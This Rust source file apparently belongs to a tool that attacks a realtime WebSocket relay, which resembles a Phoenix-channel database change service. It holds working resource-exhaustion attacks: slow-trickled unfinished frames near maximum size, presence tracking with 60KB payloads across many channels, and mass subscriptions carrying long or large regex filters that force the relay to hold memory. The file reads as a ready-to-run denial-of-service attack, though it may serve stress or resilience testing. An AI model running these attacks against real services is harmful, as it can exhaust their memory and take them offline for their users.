//! What makes the relay hold memory.

use serde_json::{Value, json};

use super::super::attackers::{Attacking, Member, TRICKLE_INTERVAL, Target, public_key, then_wait};
use super::super::socket::{BINARY, head, join, message};

/// Messages that begin and do not end: almost as long as a frame may be, then a byte a second.
pub fn unfinished(target: Target) -> Attacking {
    let (sockets, length) = target.size((8, 500_000), (150, 4_900_000));
    Box::pin(target.crowd(sockets, move |mut member, _| async move {
        let (mut reader, mut writer) = member.target.open().await?;
        let send = async {
            writer.raw(&head(BINARY, length + 90_000)).await?;
            writer.raw(&vec![b' '; length]).await?;
            loop {
                writer.raw(b" ").await?;
                tokio::time::sleep(TRICKLE_INTERVAL).await;
            }
        };
        // It listens from the beginning, because it may be sent away before all is written.
        tokio::select! {
            end = then_wait(send) => end,
            end = member.listen(&mut reader, 0) => end,
        }
    }))
}

/// Sockets that track as much as they may in as many channels as they may.
pub fn presences(target: Target) -> Attacking {
    let (sockets, channels) = target.size((2, 10), (100, 100));
    Box::pin(target.crowd(sockets, move |mut member, socket| async move {
        let (mut reader, mut writer) = member.target.open().await?;
        let name = |channel| format!("full-{socket}-{channel}");
        for channel in 0..channels {
            let presence = json!({ "presence": { "enabled": true, "key": channel.to_string() } });
            let join = json!({ "config": presence });
            writer.text(&message(channel, &name(channel), "phx_join", &join)).await?;
        }
        // What is tracked before is not.
        for _ in 0..channels {
            member.message(&mut reader, &["phx_reply"]).await?;
        }
        let track = json!({ "event": "track", "payload": { "x": "x".repeat(60_000) } });
        let send = async {
            for channel in 0..channels {
                writer.text(&message(channel, &name(channel), "presence", &track)).await?;
            }
            Some(())
        };
        tokio::select! {
            end = then_wait(send) => end,
            end = member.listen(&mut reader, channels) => end,
        }
    }))
}

/// Sockets with as many long filters as they may have.
pub fn filters(target: Target) -> Attacking {
    let (sockets, channels) = target.size((1, 5), (25, 100));
    Box::pin(target.crowd(sockets, move |member, socket| {
        let filter = |number| format!("body=eq.{socket} {number} {}", "x".repeat(450));
        send_and_listen(member, joins_with_filters(channels, 100, filter), public_key())
    }))
}

/// Sockets with as many regular expressions as they may have, each as large as the relay compiles.
pub fn patterns(target: Target) -> Attacking {
    let (sockets, channels) = target.size((1, 2), (5, 100));
    Box::pin(target.crowd(sockets, move |member, socket| {
        let filter =
            |number| format!("body=match.^[a-f]{{40}}[^x]{{30}}{socket}y{number}z[a-z]{{9}}$");
        send_and_listen(member, joins_with_filters(channels, 100, filter), public_key())
    }))
}

/// Joins of so many channels with so many filters each on the table of long rows.
pub fn joins_with_filters(
    channels: usize,
    filters: usize,
    filter: impl Fn(usize) -> String,
) -> Vec<String> {
    let subscriptions = |channel: usize| {
        let subscriptions = (0..filters).map(|index| {
            let filter = filter(channel * filters + index);
            json!({ "event": "*", "schema": "public", "table": "notes", "filter": filter })
        });
        Value::from_iter(subscriptions)
    };
    (0..channels)
        .map(|channel| join(channel, &format!("many-{channel}"), &subscriptions(channel)))
        .collect()
}

/// Sends all this, and listens for ever. The member is ready when everything was answered.
pub async fn send_and_listen(mut member: Member, texts: Vec<String>, token: String) -> Option<()> {
    let (mut reader, mut writer) = member.target.open_with(&token).await?;
    let send = async {
        for text in &texts {
            writer.text(text).await?;
        }
        Some(())
    };
    tokio::select! {
        end = then_wait(send) => end,
        end = member.listen(&mut reader, texts.len()) => end,
    }
}
